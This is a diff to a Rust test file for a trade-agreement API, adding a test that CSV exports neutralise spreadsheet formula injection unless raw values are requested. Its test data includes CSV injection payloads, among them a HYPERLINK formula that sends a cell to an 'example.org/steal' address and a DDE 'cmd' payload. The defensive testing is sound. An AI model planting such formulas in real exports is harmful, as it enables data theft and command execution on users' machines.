@@ -1,10 +1,13 @@
 //! Exports: CSV and NDJSON for every collection, and one agreement's whole record.
 
-use axum::http::StatusCode;
-use serde_json::Value;
-use trade_agreement_api::export::csv_cell;
+use std::collections::HashMap;
 
-use crate::helpers::{COLLECTIONS, FRAMEWORK, SOURCE_FILE, TestApp};
+use axum::http::{Method, StatusCode};
+use serde_json::{Value, json};
+use trade_agreement_api::auth::Scope;
+use trade_agreement_api::export::{CsvCells, csv_cell};
+
+use crate::helpers::{COLLECTIONS, FRAMEWORK, SOURCE_FILE, TestApp, evidence};
 
 #[tokio::test]
 async fn csv_reads_back_to_the_same_rows_as_json() {
@@ -39,7 +42,10 @@ async fn csv_reads_back_to_the_same_rows_as_json() {
                 fields.keys().cloned().collect::<Vec<_>>(),
                 "{collection}"
             );
-            let expected: Vec<String> = fields.values().map(csv_cell).collect();
+            let expected: Vec<String> = fields
+                .values()
+                .map(|value| csv_cell(value, CsvCells::Neutralised))
+                .collect();
             assert_eq!(row, &expected, "{collection}");
         }
     }
@@ -132,4 +138,105 @@ async fn the_agreement_export_holds_the_whole_record_and_its_source() {
     app.get("/api/v1/agreements/none/export")
         .await
         .problem(StatusCode::NOT_FOUND);
+}
+
+/// The rows of a CSV answer as maps from column name to cell.
+fn csv_rows(body: &[u8]) -> Vec<HashMap<String, String>> {
+    let mut reader = csv::Reader::from_reader(body);
+    let headers = reader.headers().unwrap().clone();
+    reader
+        .records()
+        .map(|record| {
+            let record = record.unwrap();
+            headers
+                .iter()
+                .map(str::to_owned)
+                .zip(record.iter().map(str::to_owned))
+                .collect()
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn csv_text_a_spreadsheet_would_run_is_neutralised_unless_raw_values_are_asked_for() {
+    let app = TestApp::new().await;
+    let writer = app.token("alice", Scope::Write).await;
+    let formulas = [
+        "=HYPERLINK(\"https://example.org/steal?x=\"&A1,\"details\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (index, formula) in formulas.iter().enumerate() {
+        let created = app
+            .write(
+                Method::POST,
+                &format!("/api/v1/agreements/{FRAMEWORK}/observations"),
+                Some(&writer),
+                &json!({"slug": format!("formula-{index}"), "kind": "market_reaction",
+                        "attributed_to": formula, "summary": formula,
+                        "evidence": evidence("Financial markets reacted modestly")}),
+            )
+            .await;
+        assert_eq!(created.status, StatusCode::CREATED, "{}", created.text());
+    }
+
+    let neutralised = app.get("/api/v1/observations?format=csv").await;
+    let raw = app
+        .get("/api/v1/observations?format=csv&csv_raw=true")
+        .await;
+    let negotiated = app
+        .get_with(
+            "/api/v1/observations?csv_raw=true",
+            &[("accept", "text/csv")],
+        )
+        .await;
+
+    let by_slug = |rows: Vec<HashMap<String, String>>| -> HashMap<String, HashMap<String, String>> {
+        rows.into_iter()
+            .map(|row| (row["slug"].clone(), row))
+            .collect()
+    };
+    let neutralised_rows = by_slug(csv_rows(&neutralised.body));
+    let raw_rows = by_slug(csv_rows(&raw.body));
+    for (index, formula) in formulas.iter().enumerate() {
+        let slug = format!("formula-{index}");
+        for column in ["summary", "attributed_to"] {
+            assert_eq!(neutralised_rows[&slug][column], format!("'{formula}"));
+            assert_eq!(raw_rows[&slug][column], *formula);
+        }
+    }
+    for row in neutralised_rows.values() {
+        for cell in row.values() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    assert_eq!(negotiated.body, raw.body);
+    // Two representations: their ETags differ, and one never revalidates the other.
+    let (neutral_tag, raw_tag) = (
+        neutralised.header("etag").expect("an ETag"),
+        raw.header("etag").expect("an ETag"),
+    );
+    assert_ne!(neutral_tag, raw_tag);
+    let revalidated = app
+        .get_with(
+            "/api/v1/observations?format=csv&csv_raw=true",
+            &[("if-none-match", neutral_tag)],
+        )
+        .await;
+    assert_eq!(revalidated.status, StatusCode::OK);
+    assert_eq!(revalidated.body, raw.body);
+    let again = app.get("/api/v1/observations?format=csv").await;
+    assert_eq!(again.body, neutralised.body);
+
+    let misplaced = app
+        .get("/api/v1/observations?csv_raw=true")
+        .await
+        .problem(StatusCode::BAD_REQUEST);
+    assert_eq!(misplaced["invalid_params"][0]["name"], "csv_raw");
 }
